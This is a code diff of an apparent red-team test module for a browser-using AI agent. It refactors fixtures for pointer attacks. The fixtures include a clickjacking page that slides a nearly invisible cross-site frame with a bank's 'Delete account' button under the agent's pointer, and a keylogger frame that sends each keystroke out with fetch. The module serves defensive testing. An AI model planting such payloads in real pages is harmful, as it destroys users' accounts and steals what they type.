@@ -8,42 +8,42 @@
  * whether the attacker got the effect; each act must end with the error that names what moved
  * (TARGET_MOVED, FOCUS_MOVED). One suite of tests/e2e/red-team.test.ts (see suites.ts).
  */
-import type { MockReplySource, RecordedRequest } from '../mock-model-server.js';
 import type { TrustSites } from '../trust-sites.js';
 import type { AttackContext } from './attacks.js';
-import { call, lastResult, refIn } from './script.js';
+import { call, refIn, step } from './script.js';
 import type { TaintAttack } from './taint-attacks.js';
-
-/** A step computed from the last tool result; a script failure ends the run and is recorded. */
-function step(context: AttackContext, build: (result: string) => MockReplySource): MockReplySource {
-  return async (request: RecordedRequest) => {
-    try {
-      const reply = build(lastResult(request));
-      return typeof reply === 'function' ? await reply(request) : reply;
-    } catch (error) {
-      context.scriptErrors.push(error instanceof Error ? error.message : String(error));
-      return { text: `Finished ${context.id}.` };
-    }
-  };
-}
 
 /**
  * A frame of `origin`'s page `path`, by the origin's other loopback name (`localhost` for `127.0.0.1`):
  * another site to the browser, so the frame lives in another renderer process.
  */
-const otherProcessFrame = (id: string, origin: string, path: string, style: string, title: string) =>
+export const otherProcessFrame = (id: string, origin: string, path: string, style: string, title: string) =>
   `<iframe id="${id}" title="${title}" style="${style}"></iframe><script>document.getElementById(${JSON.stringify(id)}).src = ${JSON.stringify(`${origin}${path}`)}.replace('//127.0.0.1:', '//localhost:');</script>`;
 
 /** Another site's account page: one big "Delete account" button that posts at once. */
-const bankDeletePage =
+export const bankDeletePage =
   '<!doctype html><meta charset="utf-8"><title>Account</title><body style="margin:0"><form method="post" action="/account/delete"><button style="position:absolute;left:0;top:0;width:320px;height:120px">Delete account</button></form>';
 
 /** The attacker's frame: its field takes focus whenever the frame does, and every keystroke is sent home. */
-const keyloggerFrame =
+export const keyloggerFrame =
   '<!doctype html><meta charset="utf-8"><title>Verify</title><input name="v" aria-label="Code" oninput="fetch(\'/log?v=\'+encodeURIComponent(this.value))"><script>addEventListener("focus",()=>document.querySelector("input").focus())</script>';
 
-const deleteForm =
+export const deleteForm =
   '<form method="post" action="/account/delete" aria-label="Account removal"><label>Confirm text <input name="confirm" id="confirm"></label><button>Delete account</button></form>';
+
+/** Script: moves the element of id "slide" over the box `rect` (a DOMRect expression), 20 px over its corner. */
+export const slideOver = (rect: string) =>
+  `const r = ${rect}; const slide = document.getElementById('slide'); slide.style.left = (r.left - 20) + 'px'; slide.style.top = (r.top - 20) + 'px';`;
+
+/** Another site's Delete account (`bankDeletePage`, registered by the attack) in a nearly invisible frame of id "slide", off screen until slid. */
+export const hiddenBankFrame = (c: AttackContext) =>
+  otherProcessFrame(
+    'slide',
+    '{{BANK}}',
+    `/p/account-${c.id}`,
+    'position:fixed;left:-2000px;top:0;width:320px;height:120px;border:0;opacity:0.02;z-index:9',
+    'Offers',
+  );
 
 /** The harmless button and the script that slides `slider` (id "slide") over it on the pointer's arrival. */
 const slideOnArrival = (slider: string) => `
@@ -52,13 +52,11 @@ const slideOnArrival = (slider: string) => `
 ${slider}
 <script>
   const more = document.getElementById('more');
-  more.addEventListener('pointermove', () => {
-    const slide = document.getElementById('slide');
-    const r = more.getBoundingClientRect();
-    slide.style.left = (r.left - 20) + 'px';
-    slide.style.top = (r.top - 20) + 'px';
-  });
+  more.addEventListener('pointermove', () => { ${slideOver('more.getBoundingClientRect()')} });
 </script>`;
+
+/** The race with another site's Delete account in a nearly invisible frame; `before` goes above the button (a tall block scrolls it far down). */
+const raceFixture = (c: AttackContext, before = '') => before + slideOnArrival(hiddenBankFrame(c));
 
 const searchField = '<form action="/search" aria-label="Search"><label>Search <input id="q" name="q"></label></form>';
 
@@ -66,8 +64,9 @@ const clickShowMore = (c: AttackContext) => [step(c, (tree) => call('act', 'clic
 const typeSearch = (c: AttackContext) => [
   step(c, (tree) => call('act', 'type', { ref: refIn(tree, 'textbox', 'Search'), text: 'weekly report', submit: true })),
 ];
-const deleted = (sites: TrustSites) => [sites.site, sites.bank].some((site) => site.requests.some((request) => request.url.startsWith('/account/delete')));
-const logged = (sites: TrustSites) => [sites.site, sites.evil].some((site) => site.requests.some((request) => /^\/log\?v=./.test(request.url)));
+export const deleted = (sites: TrustSites) =>
+  [sites.site, sites.bank].some((site) => site.requests.some((request) => request.url.startsWith('/account/delete')));
+export const logged = (sites: TrustSites) => [sites.site, sites.evil].some((site) => site.requests.some((request) => /^\/log\?v=./.test(request.url)));
 const clickInstruction = () => 'Click "Show more" to see the full release notes.';
 const typeInstruction = () => 'Search this site for "weekly report" and press Enter.';
 
@@ -77,16 +76,7 @@ export const POINTER_ATTACKS: readonly TaintAttack[] = [
     goal: 'delete',
     host: 'site',
     secretElsewhere: true,
-    fixture: (c) =>
-      slideOnArrival(
-        otherProcessFrame(
-          'slide',
-          '{{BANK}}',
-          `/p/account-${c.id}`,
-          'position:fixed;left:-2000px;top:0;width:320px;height:120px;border:0;opacity:0.02;z-index:9',
-          'Offers',
-        ),
-      ),
+    fixture: (c) => raceFixture(c),
     pages: (sites, c) => void sites.bank.page(`account-${c.id}`, bankDeletePage),
     instruction: clickInstruction,
     steps: clickShowMore,
@@ -100,17 +90,7 @@ export const POINTER_ATTACKS: readonly TaintAttack[] = [
     goal: 'delete',
     host: 'site',
     secretElsewhere: true,
-    fixture: (c) =>
-      '<div style="height:2400px">Scroll down for the notes.</div>' +
-      slideOnArrival(
-        otherProcessFrame(
-          'slide',
-          '{{BANK}}',
-          `/p/account-${c.id}`,
-          'position:fixed;left:-2000px;top:0;width:320px;height:120px;border:0;opacity:0.02;z-index:9',
-          'Offers',
-        ),
-      ),
+    fixture: (c) => raceFixture(c, '<div style="height:2400px">Scroll down for the notes.</div>'),
     pages: (sites, c) => void sites.bank.page(`account-${c.id}`, bankDeletePage),
     instruction: clickInstruction,
     steps: clickShowMore,
